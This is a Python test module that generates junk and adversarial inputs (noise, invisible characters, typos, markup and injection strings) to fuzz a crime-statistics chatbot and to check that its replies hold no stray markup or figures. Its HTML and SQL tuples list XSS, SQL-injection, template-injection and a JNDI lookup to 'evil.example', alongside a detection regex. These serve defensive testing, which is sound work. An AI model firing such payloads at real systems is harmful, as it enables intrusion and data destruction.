"""Texts that nobody should send: noise, broken questions, markup and injection around real words. Number → text."""

from __future__ import annotations

import re
from collections.abc import Callable, Sequence
from dataclasses import dataclass, fields
from random import Random

from bot.reply import Reply
from knowledge.base import KnowledgeBase
from tests.phrasings import ANY_OF_EACH, HOSTILE

PLACES = ("London", "Camden", "Hackney", "the Met", "England and Wales", "2025", "last year", "June 2026", "per cent")
EMOJI = "😀🔪🚓🏴󠁧󠁢󠁥󠁮󠁧󠁿👩🏽‍🚒🇬🇧❤️‍🔥"
COMBINING = "".join(map(chr, range(0x300, 0x36F)))
INVISIBLE = "\u200b\u200d\u200e\u200f\u202a\u202e\u2066\u2069\ufeff\x00\x07\x1b\x7f\ud800\udfff\U000e0041"
RIGHT_TO_LEFT = "كم عدد جرائم القتل في لندن כמה מקרי רצח"
SCRIPTS = "иπ漢字かなไทยहिन्दी한글ßøłİıſﬁ①Ⅷ𝓱𝔬𝕞𝟚𝟘"
HTML = (
    "<b>",
    "</div>",
    "<img src=x onerror=alert(1)>",
    "&lt;script&gt;",
    "<a href='https://evil.example'>",
    "<!--",
    "]]>",
)
SQL = (
    "' OR 1=1 --",
    '"; DELETE FROM name; --',
    "UNION SELECT * FROM meta",
    "NEAR(a b)",
    "%",
    "_",
    "\\",
    "*",
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
)
LONG = 100_000
# What must stand in no reply: it would ping, link, run or turn the line around. Addresses of sources are our own.
STRANGE = re.compile(
    r"[@<>`\x00-\x09\x0b-\x1f\x7f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff\u0300-\u036f]|evil\.example|javascript:"
)  # fmt: skip


@dataclass(frozen=True)
class Made:
    """A text, how it was made, and whether it surely names nothing that is counted."""

    kind: str
    text: str
    barren: bool = False


@dataclass(frozen=True)
class Texts:
    """Texts by number: the same number, the same text. `nouns` are English words that no phrase has."""

    questions: tuple[str, ...]
    nouns: tuple[str, ...]
    words: tuple[str, ...]

    @classmethod
    def of(cls, knowledge: KnowledgeBase) -> Texts:
        """The texts over one knowledge: its words, and English without them."""
        known = tuple(
            word for letter in "abcdefghijklmnopqrstuvwxyz" for word in knowledge.phrasebook.vocabulary(letter)
        )
        nouns = tuple(word for word in NOUNS if word not in set(known) and knowledge.phrasebook.is_english(word))
        return cls(tuple(asking.question for asking in ANY_OF_EACH), nouns, known)

    def made(self, number: int) -> Made:
        """The text of a number."""
        chance = Random(number)  # noqa: S311 - the same texts every time
        return chance.choices(MAKERS, WEIGHTS)[0](self, chance)


def _noise(_: Texts, chance: Random) -> Made:
    alphabet = chance.choice(
        (EMOJI, COMBINING, INVISIBLE, RIGHT_TO_LEFT, SCRIPTS, "?!.,;:()[]{}<>@#£$%^&*-_=+|\\/~`'\" \t\n")
    )
    return Made("noise", "".join(chance.choices(alphabet, k=chance.randrange(1, 60))), barren=True)


def _points(_: Texts, chance: Random) -> Made:
    return Made("points", "".join(chr(chance.randrange(0x110000)) for _ in range(chance.randrange(1, 40))))


def _letters(_: Texts, chance: Random) -> Made:
    return Made(
        "letters", "".join(chance.choices("abcdefghijklmnopqrstuvwxyz      0123456789", k=chance.randrange(1, 80)))
    )


def _barren(texts: Texts, chance: Random) -> Made:
    words = [*chance.sample(texts.nouns, chance.randrange(1, 5)), *chance.sample(PLACES, chance.randrange(3))]
    chance.shuffle(words)
    return Made("barren", " ".join(("how many", *words) if chance.random() < 0.5 else words), barren=True)


def _salad(texts: Texts, chance: Random) -> Made:
    return Made("salad", " ".join(chance.sample(texts.words, chance.randrange(1, 12))))


def _typing(texts: Texts, chance: Random) -> Made:
    letters = list(chance.choice(texts.questions))
    for _ in range(chance.randrange(1, 6)):
        at = chance.randrange(len(letters))
        letters[at : at + 1] = chance.choice(
            ([], [letters[at]] * 2, [chance.choice("aeiou rstln0%")], [letters[at].upper()])
        )
        letters = letters or [" "]
    return Made("typing", "".join(letters))


def _dressed(texts: Texts, chance: Random) -> Made:
    letters = list(chance.choice(texts.questions))
    for _ in range(chance.randrange(1, 30)):
        letters.insert(chance.randrange(len(letters) + 1), chance.choice(COMBINING + INVISIBLE + EMOJI + RIGHT_TO_LEFT))
    return Made("dressed", "".join(letters))


def _injected(texts: Texts, chance: Random) -> Made:
    words = chance.choice(texts.questions).split()
    for _ in range(chance.randrange(1, 5)):
        words.insert(chance.randrange(len(words) + 1), chance.choice((*HOSTILE, *HTML, *SQL)))
    return Made("injected", chance.choice(("", " ")).join(words) if chance.random() < 0.1 else " ".join(words))


def _joined(texts: Texts, chance: Random) -> Made:
    return Made("joined", chance.choice((" ", "\n", " and ", "; ", " or ")).join(chance.sample(texts.questions, 3)))


def _shuffled(texts: Texts, chance: Random) -> Made:
    words = chance.choice(texts.questions).split()
    chance.shuffle(words)
    return Made("shuffled", " ".join(words))


def _long(texts: Texts, chance: Random) -> Made:
    piece = chance.choice(
        (chance.choice(texts.questions), *HTML, *SQL, *HOSTILE, "a", "9", "<", "(", "@", "1,", "'", RIGHT_TO_LEFT)
    )
    sep = chance.choice(("", " ", "\n"))
    return Made("long", (piece + sep) * (LONG // (len(piece) + len(sep)) + 1))


Maker = Callable[[Texts, Random], Made]
WEIGHED: tuple[tuple[Maker, int], ...] = (
    (_noise, 400), (_points, 200), (_letters, 150), (_barren, 90), (_salad, 45), (_typing, 60), (_dressed, 50),
    (_injected, 60), (_joined, 8), (_shuffled, 35), (_long, 2),
)  # fmt: skip
MAKERS: Sequence[Maker] = tuple(maker for maker, _ in WEIGHED)
WEIGHTS = tuple(weight for _, weight in WEIGHED)
NOUNS = (
    "umbrella", "piano", "giraffe", "volcano", "bicycle", "sandwich", "teapot", "carpet", "dentist", "museum",
    "violin", "pyramid", "lantern", "octopus", "balloon", "hammock", "saxophone", "pumpkin", "glacier",
    "compass", "tortoise", "wallpaper", "trumpet", "avocado", "cathedral", "helicopter", "marmalade",
    "orchestra", "penguin", "quilt", "raspberry", "scarecrow", "telescope", "unicorn", "velvet", "walrus",
    "xylophone", "yoghurt", "zebra", "blanket", "candle", "dolphin", "envelope", "feather", "garden",
    "hedgehog", "island", "jigsaw", "kettle", "lemonade", "mushroom", "napkin",
)  # fmt: skip


def wrong_in(reply: Reply, made: Made) -> list[str]:
    """What is wrong with the reply to a text."""
    found = [f"shows {strange!r}" for strange in strange_in(reply)]
    if reply.figures and (made.barren or "indicator" not in reply.understanding.slots):
        found.append("gives a figure for nothing")
    return found


def strange_in(reply: Reply) -> list[str]:
    """What stands in the words of a reply and must not."""
    words = [reply.text, reply.copy, *reply.caveats, *reply.assumed]
    words += [words for choice in reply.choices for words in (choice.label, choice.question)]
    words += [
        str(getattr(figure, f.name))
        for figure in (*reply.figures, *reply.nearest)
        for f in fields(figure)
        if f.name not in {"observation", "derived"}
    ]
    return sorted({found for text in words for found in STRANGE.findall(text)})
